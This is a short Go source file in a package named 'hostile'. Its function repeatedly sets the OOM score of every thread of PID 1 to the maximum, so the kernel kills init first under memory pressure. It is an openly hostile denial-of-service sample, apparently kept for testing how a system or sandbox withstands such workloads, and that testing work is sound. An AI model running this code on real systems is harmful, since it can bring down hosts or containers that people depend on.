package hostile

import (
	"fmt"
	"os"
	"time"
)

// raiser makes every thread of PID 1 the kernel's first choice when memory is full, for ever.
func raiser() error {
	if len(Threads(1)) == 0 {
		return fmt.Errorf("raise oom_score_adj of PID 1: no thread of it is in /proc")
	}
	for {
		for _, thread := range Threads(1) {
			for _, path := range []string{"/proc/%d/oom_score_adj", "/proc/1/task/%d/oom_score_adj"} {
				_ = os.WriteFile(fmt.Sprintf(path, thread), []byte("1000"), 0)
			}
		}
		time.Sleep(100 * time.Millisecond) // to find the threads takes the processor
	}
}
